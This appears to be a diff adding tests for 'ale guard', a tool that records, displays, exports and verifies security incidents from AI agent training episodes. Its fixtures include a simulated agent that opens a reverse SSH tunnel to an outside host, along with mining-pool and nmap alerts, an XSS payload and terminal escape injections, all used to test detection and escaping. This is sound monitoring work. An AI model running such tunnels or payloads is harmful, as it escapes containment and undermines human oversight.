@@ -1,0 +1,370 @@
+import { spawnSync } from "node:child_process";
+import { mkdir, readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { sha256 } from "@ale/core";
+import type { Incident } from "@ale/guard";
+import { initialRunState } from "@ale/roll";
+import { describe, expect, it } from "vitest";
+import {
+  alertOf,
+  beginOf,
+  logText,
+  T0,
+  type Timed,
+  tunnelEpisode,
+  turnOf,
+} from "../../guard/test/recorded.ts";
+import { sinceMs } from "../src/commands/guard-incidents.ts";
+import { EXIT } from "../src/exit-codes.ts";
+import { attachmentOf } from "../src/report/evidence.ts";
+import { ale, ROUND, temporaryHome } from "./support.ts";
+
+/** A log on disk, as its run would have left it. */
+async function record(
+  home: string,
+  run: string,
+  id: string,
+  timed: readonly Timed[],
+  startMs = T0,
+  seal = true,
+) {
+  const folder = join(home, "runs", run, "episodes");
+  await mkdir(folder, { recursive: true });
+  const path = join(folder, `${id}.jsonl`);
+  await writeFile(path, logText(startMs, timed, seal));
+  return path;
+}
+
+async function night(): Promise<{ home: string; path: string }> {
+  const home = await temporaryHome();
+  const path = await record(home, "night", "ep_night", tunnelEpisode());
+  const quiet = turnOf(0, "ls", "a\n");
+  await record(
+    home,
+    "day",
+    "ep_day",
+    [
+      [0, beginOf("ep_day", T0 + 86_400_000, "day")],
+      [10, quiet.says],
+      [11, quiet.calls],
+      [12, quiet.sees],
+      [
+        13,
+        alertOf({
+          rule: "network-scan",
+          chunk: 0,
+          severity: "low",
+          callId: "call_0",
+          evidence: { command: "nmap x" },
+        }),
+      ],
+    ],
+    T0 + 86_400_000,
+  );
+  return { home, path };
+}
+
+interface Listed {
+  readonly incidents: readonly Incident[];
+  readonly total: number;
+}
+const listed = async (home: string, ...options: string[]): Promise<readonly Incident[]> =>
+  ((await ale(home, "guard", "incidents", "--json", ...options)).json() as unknown as Listed).incidents;
+
+describe("ale guard incidents", () => {
+  it("lists one line an attempt, the newest first", async () => {
+    const { home } = await night();
+    const { stdout, exitCode } = await ale(home, "guard", "incidents");
+    expect(exitCode).toBe(EXIT.ok);
+    const rules = stdout
+      .split("\n")
+      .flatMap((line) => /^inc_\w{12} .*? (network-scan|mining-pool-name|tunnel-ssh) /.exec(line)?.[1] ?? []);
+    expect(rules).toEqual(["network-scan", "mining-pool-name", "tunnel-ssh"]);
+    expect(stdout).toContain("3 incidents in 2 episodes");
+    expect(stdout).toMatch(/critical +tunnel-ssh +ep_night:1 +ssh -fN -R/);
+  });
+
+  it.each([
+    [["--run", "day"], ["network-scan"]],
+    [["--min-severity", "critical"], ["tunnel-ssh"]],
+    [["--since", "2026-03-02"], ["network-scan"]],
+    [["--limit", "1"], ["network-scan"]],
+  ])("filters by %j", async (options, expected) => {
+    const { home } = await night();
+    expect((await listed(home, ...options)).map(({ rule }) => rule)).toEqual(expected);
+  });
+
+  it("reads spans and dates, and refuses anything else", () => {
+    expect(sinceMs("12h", 1e9)).toBe(1e9 - 12 * 3.6e6);
+    expect(sinceMs("2026-03-01T04:00Z", 0)).toBe(Date.UTC(2026, 2, 1, 4));
+    expect(() => sinceMs("yesterday", 0)).toThrow("neither a time span nor a date");
+  });
+
+  it("says which log it could not read, and with its exit code that something is missing", async () => {
+    const { home, path } = await night();
+    await writeFile(path, (await readFile(path, "utf8")).replace("critical", "low"));
+    const { stdout, exitCode } = await ale(home, "guard", "incidents");
+    expect(exitCode).toBe(EXIT.failed);
+    expect(stdout).toMatch(/unread night\/ep_night: .*line 12 is broken \(bad-hash\)/);
+    expect(stdout).toContain("network-scan");
+  });
+
+  it("makes what an agent wrote harmless for a terminal", async () => {
+    const home = await temporaryHome();
+    const turn = turnOf(0, "printf '\u001b[2J'\r", "\u009b31mred\u202etxt");
+    await record(home, "r", "ep_x", [
+      [0, beginOf("ep_x", T0, "r")],
+      [1, turn.says],
+      [2, turn.calls],
+      [3, turn.sees],
+      [
+        4,
+        alertOf({
+          rule: "a",
+          chunk: 0,
+          severity: "high",
+          callId: "call_0",
+          evidence: { command: "printf '\u001b[2J'\r" },
+        }),
+      ],
+    ]);
+    const [{ id }] = (await listed(home)) as [Incident];
+    for (const words of [["incidents"], ["show", id]]) {
+      const { stdout } = await ale(home, "guard", ...words);
+      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
+      expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
+      expect(stdout).toContain("␛[2J");
+    }
+  });
+});
+
+describe("ale guard show", () => {
+  it("follows the alarm to the command, the process and the packets, and to what the model wrote before", async () => {
+    const { home } = await night();
+    const [tunnel] = (await listed(home, "--min-severity", "critical")) as [Incident];
+    const { stdout } = await ale(home, "guard", "show", tunnel.id);
+    const order = [
+      `${tunnel.id}  CRITICAL  tunnel-ssh  T1572`,
+      "An SSH client or server speaks where nothing may pass",
+      "ep_night, run night",
+      "23 ms from the first packet",
+      "submitted, reward 1",
+      "What it had read (bash)",
+      "cc -o a a.c",
+      "What it wrote",
+      "I open one.",
+      "$ ssh -fN -R 2222:localhost:22 root@198.51.100.7; echo done",
+      "4100",
+      "└─ 4210  ssh -fN -R",
+      "◀ alert",
+      "tcp 198.51.100.7:22  refused (default)",
+      "SSH-2.0-OpenSSH",
+      "warn (tunnel-ssh)",
+      "sealed, chain intact",
+      `ale guard export ${tunnel.id}`,
+    ];
+    const places = order.map((text) => stdout.indexOf(text));
+    expect(places).not.toContain(-1);
+    expect(places).toEqual([...places].sort((a, b) => a - b));
+  });
+
+  it("fits 80 columns", async () => {
+    const { home } = await night();
+    let stdout = "";
+    const { runCli } = await import("../src/cli.ts");
+    const out = { write: (text: string) => (stdout += text), columns: 80 };
+    await runCli(
+      { argv: ["guard", "show", "last"], env: { ALE_HOME: home }, stdout: out, stderr: { write: () => 0 } },
+      new AbortController().signal,
+    );
+    // The path of the log is the machine's.
+    const long = stdout
+      .replaceAll(home, "~")
+      .split("\n")
+      .filter((line) => [...line].length > 80);
+    expect(long).toEqual([]);
+    expect(stdout).toContain("network-scan");
+  });
+
+  it("finds by the beginning of an id, and says what is probably meant", async () => {
+    const { home } = await night();
+    const [, miner] = (await listed(home)) as [Incident, Incident];
+    const shown = await ale(home, "guard", "show", miner.id.slice(0, 9), "--json");
+    expect(shown.json()).toMatchObject({
+      incident: { id: miner.id, during: [3], names: [{ allowed: false }] },
+    });
+    const unknown = await ale(home, "guard", "show", "inc_zz");
+    expect(unknown.exitCode).toBe(EXIT.usage);
+    expect(unknown.stderr).toContain("ale guard incidents lists them");
+  });
+});
+
+async function exported(): Promise<{ home: string; log: string; html: string; json: string; id: string }> {
+  const { home, path } = await night();
+  const [tunnel] = (await listed(home, "--min-severity", "critical")) as [Incident];
+  const out = join(home, "evidence");
+  const { exitCode } = await ale(home, "guard", "export", tunnel.id, "--out", out);
+  expect(exitCode).toBe(EXIT.ok);
+  return {
+    home,
+    log: path,
+    html: join(out, `${tunnel.id}.html`),
+    json: join(out, `${tunnel.id}.json`),
+    id: tunnel.id,
+  };
+}
+
+const findings = async (home: string, ...words: string[]) => {
+  const outcome = await ale(home, "guard", "verify", ...words, "--json");
+  const { findings: found } = outcome.json() as {
+    findings: { what: string; result: string; detail: string }[];
+  };
+  return {
+    exitCode: outcome.exitCode,
+    found: Object.fromEntries(found.map(({ what, result }) => [what, result])),
+    all: found,
+  };
+};
+
+describe("ale guard export", () => {
+  it("writes a page that asks for nothing, and the same as data within and beside it", async () => {
+    const { html, json } = await exported();
+    const page = await readFile(html, "utf8");
+    expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
+    expect(page).not.toMatch(/<script|<iframe|<img|<link|\bsrc=|https?:\/\/|@import|url\(/i);
+    expect(attachmentOf(page)).toEqual({ ok: true, json: await readFile(json, "utf8") });
+    expect(page).toContain(sha256(await readFile(json)));
+  });
+
+  it("escapes what the agent wrote", async () => {
+    const home = await temporaryHome();
+    const evil = `</pre><script>alert(1)</script><a href="data:application/json;base64,AAAA">x</a>\u202e`;
+    const turn = turnOf(0, evil, evil, { text: evil });
+    await record(home, "r", "ep_x", [
+      [0, beginOf("ep_x", T0, "r")],
+      [1, turn.says],
+      [2, turn.calls],
+      [3, turn.sees],
+      [4, alertOf({ rule: "a", chunk: 0, severity: "high", callId: "call_0", evidence: { command: evil } })],
+    ]);
+    const file = join(home, "e.html");
+    await ale(home, "guard", "export", "last", "--out", file);
+    const page = await readFile(file, "utf8");
+    expect(page).not.toMatch(/<script|\u202e/);
+    expect(page).toContain("&lt;script&gt;alert(1)");
+    expect((await findings(home, file)).exitCode).toBe(EXIT.ok);
+  });
+
+  it("can be checked without this program, as its page says", async () => {
+    const { html, json, home } = await exported();
+    const page = await readFile(html, "utf8");
+    const [, commands = ""] = /<pre>(jq -r[\s\S]*?)<\/pre>/.exec(page) ?? [];
+    const script = commands
+      .replaceAll("&quot;", '"')
+      .replaceAll("&#39;", "'")
+      .replaceAll("&lt;", "<")
+      .replaceAll("&gt;", ">")
+      .replaceAll("&amp;", "&");
+    const { stdout, stderr, status } = spawnSync("bash", ["-c", script], { cwd: join(home, "evidence") });
+    expect([`${stderr}`, status]).toEqual(["", 0]);
+    const hashes = `${stdout}`
+      .trim()
+      .split("\n")
+      .map((line) => line.split(" ")[0]);
+    const bundle = JSON.parse(await readFile(json, "utf8")) as {
+      log: { sha256: string; head: string };
+      chain: string[];
+    };
+    expect(hashes).toEqual([bundle.log.sha256, ...bundle.chain]);
+    expect(hashes.at(-1)).toBe(bundle.log.head);
+  });
+});
+
+describe("ale guard verify", () => {
+  it("tells that a bundle holds against itself, its page and the log here", async () => {
+    const { home, html, json } = await exported();
+    const page = await findings(home, html);
+    expect(page).toMatchObject({
+      exitCode: EXIT.ok,
+      found: {
+        page: "holds",
+        digest: "holds",
+        "whole log": "holds",
+        story: "holds",
+        log: "holds",
+        witness: "open",
+      },
+    });
+    expect((await findings(home, json)).exitCode).toBe(EXIT.ok);
+  });
+
+  it("tells what is not here", async () => {
+    const { json, log } = await exported();
+    const elsewhere = await temporaryHome();
+    expect((await findings(elsewhere, json)).found).toMatchObject({ log: "open", story: "holds" });
+    expect((await findings(elsewhere, json, "--log", log)).found).toMatchObject({ log: "holds" });
+  });
+
+  it("asks the run's state whether the log is the one that it used", async () => {
+    const { home, json, id } = await exported();
+    const { head } = (JSON.parse(await readFile(json, "utf8")) as { log: { head: string } }).log;
+    const witnessed = async (hash: string): Promise<void> => {
+      const state = initialRunState("night", "0".repeat(64), "/model");
+      const rounds = [{ ...ROUND, episodes: [{ episode: "ep_night", head: hash }] }];
+      await writeFile(join(home, "runs/night/state.json"), JSON.stringify({ ...state, rounds }));
+    };
+    await witnessed(head);
+    expect((await findings(home, json)).found).toMatchObject({ witness: "holds" });
+    expect((await findings(home, id)).found).toEqual({ chain: "holds", witness: "holds" });
+    await witnessed("0".repeat(64));
+    expect(await findings(home, json)).toMatchObject({ exitCode: EXIT.failed, found: { witness: "fails" } });
+  });
+
+  it("shows a page that was changed, and a bundle that was changed", async () => {
+    const { home, html, json } = await exported();
+    await writeFile(html, (await readFile(html, "utf8")).replace("I open one.", "I open none."));
+    expect(await findings(home, html)).toMatchObject({
+      exitCode: EXIT.failed,
+      found: { page: "fails", story: "holds" },
+    });
+    await writeFile(json, (await readFile(json, "utf8")).replaceAll("198.51.100.7", "198.51.100.8"));
+    expect(await findings(home, json)).toMatchObject({
+      exitCode: EXIT.failed,
+      found: { digest: "fails", lines: "fails" },
+    });
+    await writeFile(json, "{}");
+    expect(await findings(home, json)).toMatchObject({ exitCode: EXIT.failed, found: { bundle: "fails" } });
+  });
+
+  it("names the first broken line of a log, and why", async () => {
+    const { home, path } = await night();
+    expect(await findings(home, path)).toMatchObject({ exitCode: EXIT.ok, found: { chain: "holds" } });
+    const text = await readFile(path, "utf8");
+    await writeFile(path, text.replace("I open one", "I open two"));
+    const { exitCode, all } = await findings(home, path);
+    expect(exitCode).toBe(EXIT.failed);
+    expect(all[0]!.detail).toMatch(/line 6 is broken \(bad-hash\)/);
+    await writeFile(path, text.slice(0, -20));
+    expect((await findings(home, path)).all[0]!.detail).toContain("is torn");
+  });
+});
+
+describe("the help", () => {
+  it("names every verb of guard, and folds them in the overview", async () => {
+    const home = await temporaryHome();
+    const { stdout } = await ale(home, "guard", "--help");
+    for (const verb of [
+      "incidents",
+      "show",
+      "export",
+      "verify",
+      "import",
+      "rules",
+      "explain",
+      "test",
+      "approvals",
+    ])
+      expect(stdout).toContain(`guard ${verb} `);
+    expect((await ale(home, "--help")).stdout).toMatch(/guard … +incidents/);
+  });
+});
